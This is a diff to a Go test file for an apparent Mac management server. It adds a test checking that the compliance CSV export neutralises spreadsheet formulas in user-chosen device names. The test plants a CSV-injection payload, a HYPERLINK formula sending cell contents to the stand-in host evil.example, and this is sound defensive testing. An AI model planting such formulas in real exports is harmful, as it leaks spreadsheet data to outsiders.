@@ -5,12 +5,14 @@ import (
 	"crypto"
 	"crypto/x509"
 	"encoding/base64"
+	"encoding/csv"
 	"encoding/pem"
 	"errors"
 	"fmt"
 	"net/http"
 	"net/url"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -273,5 +275,33 @@ func TestAPIKeyRoles(t *testing.T) {
 	other := &api.Client{BaseURL: ts.url, APIKey: second.Secret, HTTP: ts.hc}
 	if err := other.RevokeAPIKey(ctx, second.ID); !errors.As(err, &ae) || ae.Code != api.CodeConflict {
 		t.Errorf("revoking the new last admin key: %v, want conflict", err)
+	}
+}
+
+// TestCSVExportNeutralisesFormulas: a DeviceName is chosen by whoever uses
+// the Mac; the compliance CSV must not hand it to a spreadsheet as a
+// formula.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	ts := startTestServer(t, t.TempDir())
+	name := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	mac := ts.enroll(t, mdmtest.WithDeviceName(name))
+	if _, err := mac.Connect(t.Context()); err != nil { // inventory
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if _, err := ts.admin.ComplianceCSV(t.Context(), &buf); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("csv = %v, %v", recs, err)
+	}
+	for _, cell := range recs[1] {
+		if strings.HasPrefix(cell, "=") {
+			t.Errorf("cell %q starts a formula", cell)
+		}
+	}
+	if got := recs[1][2]; got != "'"+name {
+		t.Errorf("device_name = %q, want it prefixed with a quote", got)
 	}
 }
